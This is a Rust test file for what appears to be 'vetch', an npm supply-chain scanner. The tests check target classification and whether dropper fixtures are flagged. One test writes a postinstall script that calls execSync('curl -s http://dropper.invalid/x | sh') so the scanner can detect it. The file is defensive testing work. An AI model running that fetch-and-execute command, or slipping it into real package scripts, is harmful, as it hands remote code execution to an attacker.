//! What can be scanned, and what each kind of target is taken for.

use vetch_engine::{Cancel, EngineError, scan};
use vetch_model::Verdict;
use vetch_model::scan::TargetKind;
use vetch_testkit::{Pkg, Project};

use crate::Case;
use crate::support::{Notices, dropper, harmless, options, options_of, purls, release, rules, run};

pub(crate) const CASES: &[Case] = &[
    ("a_healthy_project_is_clean", a_healthy_project_is_clean),
    ("a_package_folder_is_judged_in_full", a_package_folder_is_judged_in_full),
    ("an_archive_says_what_it_is_called", an_archive_says_what_it_is_called),
    ("a_lockfile_is_judged_by_archives", a_lockfile_is_judged_by_archives),
    ("several_targets_share_releases", several_targets_share_releases),
    ("a_package_does_not_excuse_itself", a_package_does_not_excuse_itself),
    ("own_install_scripts_are_looked_at", own_install_scripts_are_looked_at),
    ("what_is_no_target_is_an_error_with_a_hint", what_is_no_target_is_an_error_with_a_hint),
    ("a_cancelled_scan_ends", a_cancelled_scan_ends),
];

fn a_healthy_project_is_clean() {
    let inner = harmless("inner");
    let outer = harmless("outer").dep("inner", "^1.0.0").file("index.js", "module.exports = require('inner');\n");
    let project = Project::builder("demo").install(outer).install(inner).build();
    let report = run(&options(&project));
    assert_eq!(report.scan.targets[0].kind, TargetKind::Project);
    assert_eq!(purls(&report), ["pkg:npm/demo@1.0.0", "pkg:npm/inner@1.0.0", "pkg:npm/outer@1.0.0"]);
    assert!(report.scan.releases.iter().all(|release| release.verdict == Verdict::Clean), "{:#?}", report.scan);
    assert!(report.scan.incomplete.is_empty() && report.scan.findings.is_empty(), "{:#?}", report.scan);
    let inner = release(&report, "pkg:npm/inner@1.0.0");
    assert!(inner.content_hash.is_some());
    assert_eq!(inner.locations[0].path.as_deref(), Some("node_modules/inner"));
    let labels: Vec<&str> = inner.paths[0].iter().map(|step| step.label.as_str()).collect();
    assert_eq!(labels, ["demo@1.0.0", "outer@1.0.0", "inner@1.0.0"]);
}

fn a_package_folder_is_judged_in_full() {
    let project = Project::builder("demo").build();
    for (path, bytes) in dropper("bad").contents() {
        project.write(&format!("unpacked/{path}"), bytes);
    }
    let report = run(&options_of(&project, project.root().join("unpacked")));
    assert_eq!(report.scan.targets[0].kind, TargetKind::Package);
    assert!(release(&report, "pkg:npm/bad@1.0.0").verdict >= Verdict::Suspicious, "{:#?}", report.scan);
}

fn an_archive_says_what_it_is_called() {
    let project = Project::builder("demo").build();
    project.write("download.tgz", dropper("@scope/bad").tarball());
    project.write("unnamed.tgz", Pkg::new("x", "1.0.0").file("package.json", "{}").tarball());
    let report = run(&options_of(&project, project.root().join("download.tgz")));
    assert_eq!(report.scan.targets[0].kind, TargetKind::Archive);
    let bad = release(&report, "pkg:npm/%40scope/bad@1.0.0");
    assert!(bad.verdict >= Verdict::Suspicious && bad.content_hash.is_some(), "{bad:#?}");
    assert_eq!(bad.locations[0].path.as_deref(), Some("download.tgz"));
    let report = run(&options_of(&project, project.root().join("unnamed.tgz")));
    assert_eq!(purls(&report), ["pkg:generic/unnamed.tgz"]);
}

fn a_lockfile_is_judged_by_archives() {
    let (good, bad) = (harmless("good"), dropper("bad"));
    let project =
        Project::builder("demo").lock_only(good.clone()).lock_only(bad.clone()).archive(&good).archive(&bad).build();
    let mut options = options_of(&project, project.root().join("package-lock.json"));
    options.archives = Some(project.archives());
    let report = run(&options);
    assert_eq!(report.scan.targets[0].kind, TargetKind::Lockfile);
    assert_eq!(release(&report, "pkg:npm/good@1.0.0").verdict, Verdict::Clean);
    assert!(release(&report, "pkg:npm/bad@1.0.0").verdict >= Verdict::Suspicious);
}

fn several_targets_share_releases() {
    let one = Project::builder("one").install(harmless("shared")).build();
    let other = Project::builder("other").install(harmless("shared")).build();
    let mut options = options(&one);
    options.targets.push(other.root());
    let report = run(&options);
    let shared = release(&report, "pkg:npm/shared@1.0.0");
    let targets: Vec<usize> = shared.locations.iter().map(|location| location.target).collect();
    assert_eq!(targets, [0, 1]);
    assert_eq!(shared.paths.len(), 2);
    assert_eq!(report.gates.len(), 2);
}

fn a_package_does_not_excuse_itself() {
    let project = Project::builder("demo").build();
    for (path, bytes) in dropper("bad").contents() {
        project.write(&format!("unpacked/{path}"), bytes);
    }
    project.write("unpacked/vetch.toml", "fail-on = \"malicious\"\nallow-incomplete = true\n");
    let report = run(&options_of(&project, project.root().join("unpacked")));
    assert!(!report.gates[0].allow_incomplete && report.gates[0].fail_on == Verdict::Suspicious);
}

fn own_install_scripts_are_looked_at() {
    let build = |script: &str| {
        let scripts = serde_json::json!({ "postinstall": "node tools/setup.js" });
        let tool = "require('child_process').execSync('curl -s http://dropper.invalid/x | sh');\n";
        Project::builder("demo").field("scripts", scripts).install(harmless("a")).file(script, tool).build()
    };
    let project = build("tools/setup.js");
    let report = run(&options(&project));
    let own = release(&report, "pkg:npm/demo@1.0.0");
    assert!(!rules(own).is_empty(), "{own:#?}");
    assert!(own.profile.capabilities.iter().all(|it| it.trigger == vetch_model::Trigger::Install));
    // The same code where no script runs it is the user's own business.
    let project = build("src/other.js");
    let report = run(&options(&project));
    let own = release(&report, "pkg:npm/demo@1.0.0");
    assert!(own.profile.capabilities.iter().all(|it| it.evidence.location().file != "src/other.js"), "{own:#?}");
}

fn what_is_no_target_is_an_error_with_a_hint() {
    let project = Project::builder("demo").file("notes.txt", "x").file("empty/readme", "x").build();
    for target in ["nothing-here", "notes.txt", "empty", "package.json"] {
        let options = options_of(&project, project.root().join(target));
        let error = scan(&options, &Notices::default(), &Cancel::new()).unwrap_err();
        assert!(matches!(error, EngineError::Target { .. }), "{target}: {error}");
        assert!(error.to_string().contains(target) && !error.hint().is_empty(), "{error}");
    }
}

fn a_cancelled_scan_ends() {
    let project = Project::builder("demo").install(harmless("a")).build();
    let cancel = Cancel::new();
    cancel.cancel();
    let error = scan(&options(&project), &Notices::default(), &cancel).unwrap_err();
    assert!(matches!(error, EngineError::Cancelled), "{error}");
}
